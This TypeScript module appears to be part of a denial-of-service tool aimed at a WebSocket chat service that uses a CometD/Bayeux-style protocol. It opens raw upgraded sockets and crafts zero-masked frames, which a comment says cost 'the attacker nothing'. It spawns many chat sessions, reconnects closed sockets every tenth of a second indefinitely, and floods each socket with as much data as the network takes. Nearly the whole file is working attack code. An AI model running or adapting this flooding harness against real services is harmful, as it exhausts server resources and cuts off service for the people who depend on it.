import { connect, type Socket } from 'node:net'
import type { Achieved, Target } from './attack.ts'
import { count } from './attack.ts'

/** An upgraded socket without a WebSocket library's manners: it answers nothing by itself. */
export interface RawSocket {
  readonly socket: Socket
  /** Writes bytes if the network takes more. */
  write(bytes: Buffer): boolean
  /** Resolves with each frame's text that holds `part`, as it comes. */
  heard(part: string): Promise<string>
}

/** Opens a socket from one of the target's addresses; `gone` is called once when it is closed, or could not be opened. */
export function openRawSocket(
  target: Target,
  options: { address?: string; gone?: () => void } = {},
): Promise<RawSocket> {
  const { hostname, port, pathname } = new URL(target.url)
  const localAddress = options.address ?? target.addresses[0]
  const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
  socket.setNoDelay()
  socket.on('error', () => undefined) // its close says the same
  socket.once('close', () => options.gone?.())
  socket.write(
    `GET ${pathname} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
      'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
  )
  let newest = ''
  const listeners = new Set<(text: string) => void>()
  return new Promise((resolve) => {
    const answered = (data: Buffer) => {
      newest = (newest + data.toString('latin1')).slice(-16_384)
      if (newest.startsWith('HTTP/1.1 101')) {
        socket.off('data', answered)
        newest = ''
        socket.on('data', (more: Buffer) => {
          newest += more.toString('latin1')
          for (const listener of listeners) listener(newest)
          newest = newest.slice(-16_384)
        })
        resolve({
          socket,
          write: (bytes) => socket.writable && socket.writableLength < 512 * 1024 && (socket.write(bytes), true),
          heard: (part) =>
            new Promise((heard) => {
              const listener = (text: string) => {
                if (!text.includes(part)) return
                listeners.delete(listener)
                heard(text)
              }
              listeners.add(listener)
            }),
        })
      } else if (newest.includes('\r\n\r\n')) socket.destroy()
    }
    socket.on('data', answered)
  })
}

/** One masked frame. The mask is zero, so that it costs the attacker nothing. */
export function frame(opcode: number, payload: string | Buffer = ''): Buffer {
  const body = Buffer.from(payload)
  const length =
    body.length < 126
      ? Buffer.from([0x80 | body.length])
      : body.length < 65_536
        ? Buffer.from([0x80 | 126, body.length >> 8, body.length & 255])
        : Buffer.concat([Buffer.from([0x80 | 127, 0, 0, 0, 0]), uint32(body.length)])
  return Buffer.concat([Buffer.from([0x80 | opcode]), length, Buffer.alloc(4), body])
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

export const textFrame = (...messages: readonly object[]) => frame(1, JSON.stringify(messages))
export const opcodes = { ping: 9, pong: 10 }

let started = 0

/** A handshake that starts a session; every name is another session. */
export function startOf(name: string, fields: object = {}): { handshake: object; attach: Record<string, unknown> } {
  const id = `${name}-${process.pid}-${(started += 1)}`
  const secret = `secret of ${id}`.padEnd(43, '.')
  const attach = { type: 'StartSession', id, secret, pageId: id, take: true, ...fields }
  return { attach, handshake: handshakeWith(attach) }
}

export function handshakeWith(attach: object): object {
  const supportedConnectionTypes = ['websocket', 'long-polling']
  return { id: '1', channel: '/meta/handshake', version: '1.0', supportedConnectionTypes, ext: { chat: attach } }
}

/** Opens a socket with a session of its own, and asks for its events. Reads what comes, and forgets it. */
export async function openVisitor(
  target: Target,
  { name, gone, handshake = startOf(name).handshake }: { name: string; gone: () => void; handshake?: object },
): Promise<RawSocket & { readonly clientId: string; readonly answer: string }> {
  const raw = await openRawSocket(target, { gone })
  const answered = raw.heard('"advice"')
  raw.write(textFrame(handshake))
  const answer = await answered
  const clientId = /"clientId":"([^"]+)"/.exec(answer)?.[1] ?? ''
  raw.write(textFrame({ id: '2', channel: '/meta/connect', connectionType: 'websocket', clientId }))
  return { ...raw, clientId, answer }
}

/** Opens again a tenth of a second after it was closed, for ever. */
export function reopening(achieved: Achieved, open: (gone: () => void) => Promise<void>): void {
  void open(() => {
    count(achieved, 'sockets closed')
    setTimeout(() => reopening(achieved, open), 100)
  })
}

export interface FloodOptions {
  readonly make: () => Buffer
  readonly written: (bytes: number) => void
  /** How many times it writes at most before it lets others have their turn. */
  readonly atOnce: number
}

/** Writes as much as the network takes, every few milliseconds, until the socket is closed. */
export function flood(raw: RawSocket, { make, written, atOnce }: FloodOptions): void {
  const burst = () => {
    for (let times = 0; times < atOnce; times++) {
      const bytes = make()
      if (!raw.write(bytes)) break
      written(bytes.length)
    }
    if (!raw.socket.destroyed) setTimeout(burst, 10)
  }
  burst()
}

let commands = 0

/** A command of an attached visitor. */
export function commandOf(clientId: string, command: object): Buffer {
  const id = `command-${process.pid}-${(commands += 1)}`
  return textFrame({ id, channel: '/service/chat', clientId, data: { id, ...command } })
}
